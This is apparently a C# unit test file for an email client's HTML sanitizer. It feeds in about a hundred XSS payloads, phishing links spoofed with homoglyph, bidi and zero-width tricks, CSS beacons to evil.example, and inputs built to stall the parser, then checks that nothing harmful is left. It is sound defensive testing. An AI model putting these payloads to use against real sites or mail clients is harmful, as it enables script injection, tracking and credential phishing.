using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using InboxMind.Api.Emails;
using Microsoft.Extensions.Time.Testing;

namespace InboxMind.Api.Tests.Emails;

public sealed class SafeHtmlTests
{
    /// <summary>A clock that stands: how long parsing may take is a matter of the tests of tangled HTML alone.</summary>
    private static readonly FakeTimeProvider Patient = new();

    private static readonly EmailId Id = new(new string('a', EmailId.Length));

    /// <summary>Attacks of many kinds. What is left of each is parsed again and looked at node by node.</summary>
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror\t=\t\"alert(1)\">",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"cid:a\" onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href to=javascript:alert(1) /></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"/api/v1/account\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"blob:https://x.example/1\">x</a>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=evil.swf></object><embed src=evil.swf><applet code=x></applet>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>",
        "<p style=\"background:url(https://evil.example/y)\">x</p>",
        "<p style=\"background:\\75rl(https://evil.example/y)\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"-moz-binding:url(https://evil.example/x)\">x</p>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</p>",
        "<p style=\"list-style-image:url(https://evil.example/y);content:url(https://evil.example/z)\">x</p>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
        "<input type=image src=https://evil.example/x.png>",
        "<img src=https://evil.example/pixel.gif>",
        "<img src=//evil.example/pixel.gif>",
        "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
        "<img srcset=\"https://evil.example/x 2x\" alt=a>",
        "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
        "<video src=https://evil.example/x poster=https://evil.example/y></video><audio src=https://evil.example/z></audio>",
        "<body background=https://evil.example/x onload=alert(1)>hi</body>",
        "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</td></tr></table>",
        "<div id=app name=config class=hidden data-x=1>x</div>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<frameset onload=alert(1)><frame src=https://evil.example></frameset>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex action=javascript:alert(1)>",
        "<a href=https://x.example ping=https://evil.example>x</a>",
        "<q cite=\"javascript:alert(1)\">x</q>",
        "<img alt=\"`><img src=x onerror=alert(1)>\" src=x>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<a href='https://x.example/\"onmouseover=\"alert(1)'>x</a>",
        "\u0000<im\u0000g src=x onerror=alert(1)>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"jav&NewLine;ascript&colon;alert(1)\">x</a>",
        "<a href=\"\u2028javascript:alert(1)\">x</a>",
        "<a href=\"https:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"data&colon;text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"https://x.example\" href=\"javascript:alert(1)\">x</a>",
        "<a href=\"ms-word:ofe|u|https://evil.example\">x</a>",
        "<area href=\"javascript:alert(1)\"><map name=a><area href=https://evil.example></map>",
        "<svg><style><!--</style><a id=\"--><img src=x onerror=alert(1)>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><foreignObject><body onload=alert(1)><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
        "<table><caption><svg><title><table><td><img src=x onerror=alert(1)></title></svg></table>",
        "<p style=\"background-color:red;background-image:image-set('https://evil.example/y' 1x)\">x</p>",
        "<p style=\"color:red;/*\">x</p><p style=\"*/background:url(//evil.example)\">x</p>",
        "<p style=\"font-family:'x;y:z';width:e\\78pression(alert(1))\">x</p>",
        "<p style=\"cursor:url(https://evil.example/c);mask:url(#a);filter:url(//evil.example)\">x</p>",
        "<p style=\"--x:url(https://evil.example);background:var(--x)\">x</p>",
        "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,x\"><meta name=referrer content=unsafe-url>",
        "<base target=_top><base href=\"javascript:alert(1)//\">",
        "<img src=\"cid:a\" srcset=\"cid:b 1x, https://evil.example/y 2x\" sizes=1px>",
        "<img src=\"cid:../../../../x\"><img src=\"cid:\">",
        "<link rel=prefetch href=https://evil.example><link rel=dns-prefetch href=//evil.example>",
        "<form id=f></form><button form=f formaction=https://evil.example>x</button><input form=f name=a>",
        "<dialog open>x</dialog><fencedframe src=https://evil.example></fencedframe><portal src=https://evil.example></portal>",
        "<p popover id=a>x</p><button popovertarget=a>x</button><p contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>",
    ];

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task OfAsync_Attack_LeavesNothingThatRunsOrLoads(string html)
    {
        var safe = await CleanAsync(html);

        ShouldBeHarmless(safe.Html!);
        ShouldBeHarmless((await CleanAsync(safe.Html + " ")).Html ?? "");
    }

    [Fact]
    public async Task OfAsync_AllAttacksInOneMail_LeaveNothing() =>
        ShouldBeHarmless((await CleanAsync(string.Concat(Attacks.Select(static a => a.Data)))).Html!);

    [Fact]
    public async Task OfAsync_Newsletter_KeepsItsLooks()
    {
        var safe = await CleanAsync(
            "<html><head><title>T</title><style>p{color:red}</style></head><body><table width=\"600\" cellpadding=4><tr><td "
                + "bgcolor=\"#eeeeee\" align=center>"
            + "<h1 style=\"color:#003366; font-size: 20px\">News</h1><o:p>office</o:p><p>One &amp; "
            + "<b>two</b><br>&lt;three&gt;</p></td></tr></table></body></html>");

        safe.Html!.ShouldContain("<td bgcolor=\"#eeeeee\" align=\"center\">");
        safe.Html!.ShouldContain("font-size: 20px");
        safe.Html!.ShouldContain("office");
        safe.Html!.ShouldContain("One &amp; <b>two</b><br>&lt;three&gt;");
        safe.Html!.ShouldNotContain("color:red");
        (safe.RemoteContent, safe.ActiveContent, safe.MisleadingLinks).ShouldBe((0, 0, 0));
    }

    [Theory]
    [InlineData("<a href=\"https://evil.example/x\">https://bank.example/login</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/x\">www.bank.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/x\">Go to <b>bank</b>.example now</a>", "[evil.example]")]
    [InlineData("<a href=\"https://bank.example@evil.example/\">bank.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://bank.example.evil.test/\">bank.example</a>", "[bank.example.evil.test]")]
    [InlineData("<a href=\"https://bаnk.example/\">bank.example</a>", "[xn--bnk-6cd.example]")]
    [InlineData("<a href=\"http://192.0.2.1/x\">bank.example</a>", "[192.0.2.1]")]
    [InlineData("<a href=\"mailto:thief@evil.example\">pay@bank.example</a>", "[evil.example]")]
    [InlineData("<a href=\"mailto:pay@bank.example?BCC=thief@evil.example\">pay@bank.example</a>", "[bank.example, evil.example]")]
    [InlineData("<a href=\"tel:+4930123\">bank.example</a>", "[tel]")]
    [InlineData("<a href=\"https://evil.example/\">http://10.0.0.1/login</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">https://localhost/login</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">ban\u200Bk.exam\u00ADple</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\uFF0Eexample</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u3002example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\"><bdo dir=rtl>elpmaxe.knab</bdo></a>", "[evil.example]")]
    [InlineData("<a href=\"https://xn--bnk-6cd.example/\">b\u0430nk.example</a>", "[xn--bnk-6cd.example]")]
    [InlineData("<a href=\"http://[2001:db8::1]/\">bank.example</a>", "[[2001:db8::1]]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u200A.\u200Aexample</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u2009.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank . example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank .example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank. example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u00B7example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank \u00B7 example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u2024example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\uFF61example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u2027example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">b\u2008ank.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u205F.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u2800.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">b\u115Fank.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u180E.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\uFE52example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank<wbr>.<b>exa</b>mple</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">https\u200A://bank.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">ba\u0489nk.example</a>", "[evil.example]")]
    [InlineData("<a href=\"https://evil.example/\">bank\u00A0.\u202Fexample</a>", "[evil.example]")]
    public async Task OfAsync_LinkThatNamesAnotherPlace_ShowsBoth(string html, string shown)
    {
        var safe = await CleanAsync(html);

        safe.MisleadingLinks.ShouldBe(1);
        safe.Html!.ShouldContain($"{shown}</a>");
    }

    [Theory]
    [InlineData("<a href=\"https://b\u0430nk.example:8443/x\">Go</a>", "https://xn--bnk-6cd.example:8443/x")]
    [InlineData("<a href=\"https://bank.example@evil.example/y\">Go</a>", "https://evil.example/y")]
    [InlineData("<a href=\" https://evil.example/y\n\">Go</a>", "https://evil.example/y")]
    [InlineData("<a href=\"http://[2001:db8::1]:8080/y\">Go</a>", "http://[2001:db8::1]:8080/y")]
    [InlineData("<a href=\"http://0x7f.1/y\">Go</a>", "http://127.0.0.1/y")]
    [InlineData("<a href=\"https://evil.example/\"><span title=\"https://bank.example/\">Go</span></a>", "https://evil.example/")]
    public async Task OfAsync_Link_SaysInItsTipWhereItLeads(string html, string tip) =>
        (await CleanAsync(html)).Html!.ShouldContain($"title=\"{tip}\"");

    [Theory]
    [InlineData("<a href=\"https://bank.example/login\">https://bank.example/login</a>")]
    [InlineData("<a href=\"https://www.bank.example/login\">bank.example</a>")]
    [InlineData("<a href=\"https://bank.example/login\">Log in</a>")]
    [InlineData("<a href=\"mailto:anna@example.com\">anna@example.com</a>")]
    public async Task OfAsync_HonestLink_StaysAsItIs(string html)
    {
        var safe = await CleanAsync(html);

        safe.MisleadingLinks.ShouldBe(0);
        safe.Html!.ShouldContain("rel=\"noopener noreferrer nofollow\"");
        safe.Html!.ShouldContain("target=\"_blank\"");
        safe.Html!.ShouldNotContain("[");
    }

    [Theory]
    [InlineData("<a href=\"mailto:thief%40evil.example\">pay@bank.example</a>")]
    [InlineData("<a href=\"mailto:thief@evil.example,pay@bank.example\">pay@bank.example</a>")]
    [InlineData("<a href=\"HTTPS:\\\\evil.example\\y\">bank.example</a>")]
    [InlineData("<a href=\"https://\">bank.example</a>")]
    [InlineData("<a href=\"https://evil.example:99999/\">bank.example</a>")]
    public async Task OfAsync_LinkThatIsReadInSeveralWays_LeadsNowhereOrSaysWhere(string html)
    {
        var safe = (await CleanAsync(html)).Html!;

        if (safe.Contains("href", StringComparison.Ordinal))
            safe.ShouldContain("evil.example]");
    }

    [Theory]
    [InlineData("bank<a href=\"https://evil.example/\">.example</a>", 1)]
    [InlineData("<a href=\"https://evil.example/\">bank</a>.example", 1)]
    [InlineData("<p>www.<b><a href=\"https://evil.example/\">bank</a></b>.example/login</p>", 1)]
    [InlineData("<a href=\"https://evil.example/a\">bank</a><a href=\"https://evil.example/b\">.example</a>", 2)]
    [InlineData("<a href=\"https://evil.example/a\">bank</a> <span>.</span> <a href=\"https://evil.example/b\">example</a>", 2)]
    [InlineData("<p dir=rtl><a href=\"https://evil.example/a\"><bdi>.example</bdi><bdi>bank</bdi></a></p>", 1)]
    [InlineData("<p>bank</p><a href=\"https://evil.example/\">.example</a>", 0)]
    [InlineData("Our bank is bank.example. <a href=\"https://evil.example/\">Go there</a>. It works", 0)]
    [InlineData("bank.example: <a href=\"https://evil.example/\">log in</a>", 0)]
    [InlineData(
        "<a href=\"https://evil.example/\">Home</a> \u00B7 <a href=\"https://evil.example/\">News</a> \u00B7 <a "
            + "href=\"https://evil.example/\">Prices</a>", 0)]
    [InlineData("<a href=\"https://bank.example/\">bank</a>.example", 0)]
    public async Task OfAsync_HostSpelledOverElements_IsReadAsSeen(string html, int misleading) =>
        (await CleanAsync(html)).MisleadingLinks.ShouldBe(misleading);

    [Theory]
    [InlineData("width:9999px")]
    [InlineData("height:9999px")]
    [InlineData("width:100vw;height:100vh")]
    [InlineData("min-width:100dvw")]
    [InlineData("max-width:calc(100% + 900px)")]
    [InlineData("width:9e9px")]
    [InlineData("width:700em")]
    [InlineData("width:5000%")]
    [InlineData("padding:9999px")]
    [InlineData("border:9999px solid red")]
    [InlineData("font-size:999px")]
    [InlineData("line-height:900px")]
    [InlineData("letter-spacing:-1em")]
    [InlineData("word-spacing:-0.4em")]
    [InlineData("text-indent:-999px")]
    public async Task OfAsync_SizeThatNoLetterNeeds_IsTakenOut(string style)
    {
        (await CleanAsync($"<div style=\"{style}\">x</div>")).Html.ShouldBe("<div>x</div>");
        (await CleanAsync($"<a href=\"https://evil.example/\" style=\"{style}\">x</a>")).Html!.ShouldNotContain("style");
    }

    [Theory]
    [InlineData(
        "<table width=\"9999\" border=\"999\" cellpadding=\"9999\"><tbody><tr><td height=\"99999\" "
            + "colspan=\"9999\">x</td></tr></tbody></table>", "<table><tbody><tr><td>x</td></tr></tbody></table>")]
    [InlineData("<div style=\"width: 600px; padding: 10px\">x</div>", "<div style=\"width: 600px; padding: 10px\">x</div>")]
    [InlineData("<table width=\"100%\" cellpadding=\"8\"></table>", "<table width=\"100%\" cellpadding=\"8\"></table>")]
    public async Task OfAsync_Sizes_StayWhereALetterHasThem(string html, string clean) => (await CleanAsync(html)).Html.ShouldBe(clean);

    [Fact]
    public async Task OfAsync_LinkWithATipWithin_HasTheLinksOwnOnly() =>
        (await CleanAsync("<a href=\"https://evil.example/\"><b title=\"https://bank.example/\">Go</b></a>")).Html!
            .ShouldNotContain("bank.example");

    [Theory]
    [InlineData("<a href=\"https://evil.example/\">\u202Eelpmaxe.knab</a>")]
    [InlineData("<a href=\"https://evil.example/\">\u2067x\u2069</a>")]
    [InlineData("<p><bdo dir=\"rtl\">elpmaxe.knab</bdo></p>")]
    public async Task OfAsync_TextTurnedAround_ReadsAsItIsWritten(string html)
    {
        var safe = (await CleanAsync(html)).Html!;

        safe.ShouldNotContain("bdo");
        safe.ShouldAllBe(static c => c < '\u2000');
    }

    [Theory]
    [InlineData("display:none")]
    [InlineData("font-size:0")]
    [InlineData("font:0/0 a")]
    [InlineData("display:inline-block;width:0;height:0")]
    [InlineData("color:red;font-family:'a;b';font-size:0px")]
    public async Task OfAsync_LinkWithAHiddenPart_ShowsIt(string style)
    {
        var safe = await CleanAsync($"<a href=\"https://evil.example/\">bank<span style=\"{style}\"> is not </span>.example</a>");

        foreach (var hiding in (string[])["display", "font", "width", "height"])
            safe.Html!.ShouldNotContain(hiding);
        safe.Html!.ShouldContain("is not");
    }

    [Fact]
    public async Task OfAsync_LinkWhoseTextHasNoEnd_ShowsWhereItLeads()
    {
        var words = string.Join(' ', Enumerable.Repeat("word", 5_000));

        (await CleanAsync($"<a href=\"https://evil.example/\">{words} bank.example</a>")).MisleadingLinks.ShouldBe(1);
        (await CleanAsync($"<a href=\"https://evil.example/\">{new string(' ', 50_000)}bank.example</a>")).MisleadingLinks.ShouldBe(1);
    }

    [Fact]
    public async Task OfAsync_Images_ShowThoseOfTheMailAndCountTheRest()
    {
        var safe = await CleanAsync(
            "<img src=\"cid:one@x\"><img src=\"CID:two%40x\"><img src=\"cid:none\" alt=\"a &lt;b&gt;\"><img "
                + "src=\"https://x.example/p.gif\" alt=\"Logo\">",
            new AttachmentInfo("", "image/png", 1, "one@x", true), new AttachmentInfo("", "image/png", 1, "two@x", true));

        safe.Html.ShouldBe(
            $"<img src=\"/api/v1/emails/{Id}/attachments/1\"><img src=\"/api/v1/emails/{Id}/attachments/2\">a &lt;b&gt;Logo");
        safe.RemoteContent.ShouldBe(1);
    }

    [Fact]
    public async Task OfAsync_WhatIsTakenOut_IsCounted()
    {
        var safe = await CleanAsync(
            "<style>p{background:url(x)}</style><link rel=stylesheet href=x><img src=http://x.example><p background=x onclick=a>x</p>"
            + "<script></script><form><input></form><a href=javascript:a>x</a><svg></svg>");

        (safe.RemoteContent, safe.ActiveContent).ShouldBe((4, 6));
    }

    [Theory]
    [InlineData("")]
    [InlineData("   \n")]
    public async Task OfAsync_NoHtml_IsNone(string html) => (await CleanAsync(html)).ShouldBe(new SafeHtml(null, null, 0, 0, 0));

    [Theory]
    [InlineData("<div>", 50_000)]
    [InlineData("<b>", 50_000)]
    [InlineData("<p><font color=", 4_000)]
    [InlineData("<a href=x>", 50_000)]
    [InlineData("<table><tr><td>", 20_000)]
    [InlineData("x<i>y", 50_000)]
    public async Task OfAsync_TangledHtml_IsNotShown(string piece, int times)
    {
        var html = string.Concat(Enumerable.Range(0, times).Select(i => piece.EndsWith('=') ? $"{piece}{i}>x" : piece));

        // Without the limit some of these take minutes.
        var safe = await SafeHtml.OfAsync(html, Id, [], TimeProvider.System, Cancellation);

        safe.Html.ShouldBeNull();
        safe.Note.ShouldNotBeNullOrEmpty();
    }

    [Fact]
    public async Task OfAsync_EndlessStyle_TakesNoTime()
    {
        var safe =
            await CleanAsync(
                $"<p style=\"width:{new string('(', 500_000)}\">x</p><p "
                    + $"style=\"color:{string.Concat(Enumerable.Repeat("calc(", 300))}\">y</p>");

        safe.Html.ShouldBe("<p>x</p><p>y</p>");
    }

    private static Task<SafeHtml> CleanAsync(string html, params AttachmentInfo[] attachments) =>
        SafeHtml.OfAsync(html, Id, attachments, Patient, Cancellation);

    private static void ShouldBeHarmless(string html)
    {
        var document = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument($"<body>{html}</body>");
        foreach (var element in document.Body!.Descendants<IElement>())
        {
            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml", html);
            "a b blockquote br caption details div font h1 hr i img p q span table tbody td tr".Split(' ')
                .ShouldContain(element.LocalName, html);
            foreach (var attribute in element.Attributes)
            {
                "align alt bgcolor cellpadding color href rel src style target title width".Split(' ').ShouldContain(attribute.Name, html);
                if (attribute.Name == "src")
                    attribute.Value.ShouldStartWith($"/api/v1/emails/{Id}/attachments/");
                if (attribute.Name == "href")
                    new[] { "http://", "https://", "mailto:", "tel:" }.ShouldContain(s => attribute.Value.StartsWith(s), html);
                if (attribute.Name == "style")
                    new[] { "url", "expression", "position", "binding", "content", "image", "\\" }.ShouldAllBe(s =>
                        !attribute.Value.Contains(s), html);
            }
        }

        document.Descendants<IComment>().ShouldBeEmpty(html);
    }
}
